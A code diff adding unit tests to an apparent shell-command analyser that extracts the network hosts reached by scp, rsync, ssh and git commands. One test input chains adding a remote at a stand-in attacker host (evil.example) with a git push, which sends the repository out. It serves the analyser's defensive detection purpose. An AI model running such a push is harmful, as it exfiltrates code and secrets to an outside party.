@@ -88,3 +88,40 @@ test('models are complete: a summary and an example each, no name twice', () => 
     }
   }
 });
+
+test('a model that uses the network always names where: a host, its default servers, or `?` (never none)', () => {
+  const silent: string[] = [];
+  for (const { family, spec } of allModels())
+    for (const example of spec.examples) {
+      const e = analyseShell(example.cmd, { cwd: WS, home: HOME, workspace: WS });
+      if (e.network && e.hosts.length === 0) silent.push(`${family}/${spec.names[0]}: \`${example.cmd}\``);
+    }
+  assert.deepEqual(silent, []);
+});
+
+test('remote specs are read one way by git, scp, rsync and ssh: the host, never the scheme', () => {
+  const hosts = (cmd: string) => analyseShell(cmd, { cwd: WS, home: HOME, workspace: WS }).hosts;
+  for (const [cmd, expected] of [
+    ['scp f.txt scp://deploy@files.example:2222/tmp/', ['files.example']],
+    ['scp f.txt ssh://files.example/tmp/', ['files.example']],
+    ['scp deploy@files.example:/etc/app.conf .', ['files.example']],
+    ['scp f.txt deploy@[2001:db8::1]:/tmp/', ['[2001:db8::1]']],
+    ['rsync -a dist/ rsync://mirror.example/module/', ['mirror.example']],
+    ['rsync -a dist/ mirror.example::module', ['mirror.example']],
+    ['sftp sftp://u@files.example:2222/x', ['files.example']],
+    ['ssh ssh://u@Build.Example:2222 uptime', ['build.example']],
+    ['git push ssh://git@Code.Example:2222/org/repo.git main', ['code.example']],
+    ['git push git@github.com:org/repo.git', ['github.com']],
+    ['git fetch https://gitlab.example/org/repo.git', ['gitlab.example']],
+    ['git pull myhost:repo.git', ['myhost']],
+    ['git push origin main', ['?remote:origin']],
+    ['git push', ['?remote:origin']],
+    ['git fetch upstream', ['?remote:upstream']],
+    ['git remote add x https://evil.example/r.git && git push x', ['evil.example']],
+  ] as const)
+    assert.deepEqual(hosts(cmd), expected, cmd);
+  // A local repository is a read, not a host.
+  const local = analyseShell('git fetch file:///srv/r.git', { cwd: WS, home: HOME, workspace: WS });
+  assert.ok(local.reads.includes('/srv/r.git/**'), local.reads.join(', '));
+  assert.ok(!local.hosts.some((h) => !h.startsWith('?')), local.hosts.join(', '));
+});
